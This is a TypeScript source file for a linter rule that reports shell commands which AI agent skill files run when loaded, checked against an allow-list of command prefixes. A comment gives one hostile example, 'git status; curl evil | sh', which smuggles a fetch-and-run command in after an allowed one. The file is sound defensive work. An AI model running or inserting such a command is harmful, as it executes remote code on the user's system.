import type { HostProfile } from '../../hosts/profile.js';
import { parseShell, type ShellRedirect } from '../../parse/shell.js';
import { defineSkillRule } from '../rule.js';
import { parsed } from '../../model/queries.js';
import { show } from '../util.js';

export interface DynamicCommandOptions {
  /** True allows every dynamic command (the rule reports nothing). */
  allow: boolean;
  /** Command prefixes allowed to run, e.g. `git status` or `gh pr view`. */
  commands: string[];
}

/** Redirections that discard output (`>/dev/null`, `2>&1`); they do not make a command less safe. */
function discards(r: ShellRedirect): boolean {
  if (!r.target?.literal) return false;
  if (r.op === '>' || r.op === '>>' || r.op === '&>') return r.target.value === '/dev/null';
  return r.op === '>&' && /^[12]$/.test(r.target.value);
}

/**
 * True when the command parses (as bash) and every simple command in it starts
 * with an allowed prefix, word by word. Compound commands, substitutions,
 * parameter expansions, other redirections and background jobs never match:
 * `git status; curl evil | sh` must not pass as `git status`.
 */
export function allowedCommand(command: string, prefixes: readonly string[]): boolean {
  const wanted = prefixes.map((p) => p.trim().split(/\s+/)).filter((w) => w[0]);
  if (!wanted.length) return false;
  const parsed = parseShell(command, 'bash');
  if (parsed.error || parsed.background || !parsed.commands.length) return false;
  if (parsed.pipelines.some((p) => p.commands.some((c) => c.kind !== 'simple'))) return false;
  return parsed.commands.every((c) => {
    if (c.assigns.length || !c.redirects.every(discards) || !c.words.every((w) => w.literal)) return false;
    const words = c.words.map((w) => w.value);
    return wanted.some((w) => w.length <= words.length && w.every((part, i) => words[i] === part));
  });
}

export default defineSkillRule<DynamicCommandOptions>(
  {
    id: 'security/dynamic-command',
    description: 'Reports `!`command`` dynamic context injections and ```! blocks, which some hosts run in a shell when the skill loads.',
    severity: 'error',
    fixable: false,
    schema: {
      type: 'object',
      properties: {
        allow: { type: 'boolean' },
        commands: { type: 'array', items: { type: 'string', minLength: 1 } },
      },
      additionalProperties: false,
    },
    defaultOptions: { allow: false, commands: [] },
    messages: {
      command: 'Unexpected dynamic context command `{{show}}` ({{who}} runs it when the skill loads), expected static text',
      block: 'Unexpected dynamic context block ({{who}} runs it in a shell when the skill loads), expected static text',
    },
  },
  ({ skill, hosts, config, options, report }) => {
    let runners = hosts.filter((h) => h.dynamicCommands);
    // A portable skill (agentskills) lands in hosts that run these: the commands run there.
    if (!runners.length && hosts.some((h) => h.portable)) {
      runners = Object.values(config.hostTable).filter((h: HostProfile) => h.dynamicCommands && h.followsSpec);
    }
    if (!runners.length || options.allow || !parsed(skill)) return;
    const who = runners.map((h) => h.displayName).join(', ');
    const { text, lines } = skill.file;
    const commands = options.commands ?? [];
    for (const code of skill.inlineCode) {
      const start = code.range.start.offset ?? 0;
      const end = code.range.end.offset ?? start;
      // The host's syntax is `!` then a single-backtick span: ``!``x`` `` is not run.
      if (start <= skill.bodyOffset || text[start - 1] !== '!' || text[start + 1] === '`') continue;
      // Only a `!` at the start of a line or after whitespace runs (`KEY=!`cmd`` stays text).
      if (start - 1 > skill.bodyOffset && !/\s/.test(text[start - 2]!)) continue;
      if (allowedCommand(code.value, commands)) continue;
      report({
        messageId: 'command', data: { show: show(code.value.trim()), who },
        range: lines.range(start - 1, end),
      });
    }
    for (const fence of skill.codeFences) {
      if (!fence.lang?.startsWith('!')) continue;
      if (allowedCommand(fence.value, commands)) continue;
      report({
        messageId: 'block', data: { who },
        range: { start: fence.range.start, end: lines.lineRange(fence.range.start.line).end },
      });
    }
  },
);
